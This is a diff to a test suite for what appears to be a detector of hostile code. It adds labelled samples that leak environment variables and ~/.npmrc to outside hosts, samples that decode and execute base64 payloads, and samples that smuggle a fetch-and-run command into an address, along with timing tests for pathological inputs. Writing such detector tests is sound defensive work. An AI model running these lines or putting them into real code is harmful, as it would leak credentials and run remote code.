@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import time
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -59,6 +61,8 @@ SHELL = [
     ("exfiltration.secret-flow", 1, None, "gh gist create --public ~/.npmrc"),
     ("obfuscation.decoded-run", 1, None, "curl -s https://x.example/a | base64 -d | gunzip | python3 -"),
     ("remote.fetched-run", 2, None, "bash <<EOF\ncurl -s https://x.example/a | sh\nEOF"),
+    ("obfuscation.decoded-run", 1, None, 'eval "$(echo aGk= | base64 -d)" http://localhost'),
+    ("exfiltration.secret-flow", 1, None, 'curl -d "$(env)" -e http://localhost drop.example.net'),
 ]
 HONEST_SHELL = [
     ('curl -H "Authorization: Bearer $API_TOKEN" https://api.example.com/v1 | jq .'),
@@ -189,8 +193,12 @@ PYTHON = [
         None,
         ('import builtins\ngetattr(builtins, bytes.fromhex("65786563").decode())("x")'),
     ),
+    ("obfuscation.decoded-run", 2, None, "import base64\nexec(base64.b64decode(x))  # http://localhost"),
+    ("exfiltration.secret-flow", 1, None, "requests.post(u, json=dict(os.environ))  # http://localhost"),
+    ("exfiltration.secret-flow", 1, None, 'requests.post(f"https://{h}/http://localhost", os.environ)'),
 ]
 HONEST_PYTHON = [
+    'requests.post("http://localhost:8080", json=dict(os.environ))  # as https://x.example does',
     (
         "import os,requests\n"
         't=os.environ["API_TOKEN"]\n'
@@ -353,11 +361,27 @@ def test_each_flow_has_a_rule_in_the_data() -> None:
         ("http://get.example.net/a", "error"),
         ("https://198.51.100.7/a", "error"),
         ("https://sh.rustup.rs", "info"),
+        ("https://sh.rustup.rs http://get.example.net/a", "error"),
+        ("https://sh.rustup.rs); y=$(curl -s http://get.example.net/a", "error"),
     ],
 )
 def test_what_is_fetched_and_run_is_graded_by_its_address(address: str, severity: str) -> None:
-    hit = hits("shell", f'x=$(curl -s {address})\neval "$x"')[0]
+    hit = hits("shell", f'x=$(curl -s {address})\neval "$x$y"')[0]
     assert (hit.rule, hit.severity) == ("remote.fetched-run", severity)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "eval(atob(x)); `" + "\\`" * 40_000,
+        "x = " + "fetch('https://x.example/a') + " * 1_250 + "eval(b) + " * 60,
+    ],
+    ids=["a text that is never closed", "many calls"],
+)
+def test_hostile_code_is_read_in_time(code: str) -> None:
+    begun = time.process_time()
+    hits("javascript", code)
+    assert time.process_time() - begun < 5
 
 
 PIECES = [piece for flows in FLOWS.values() for flow in flows for piece in flow[3].split(" ")]
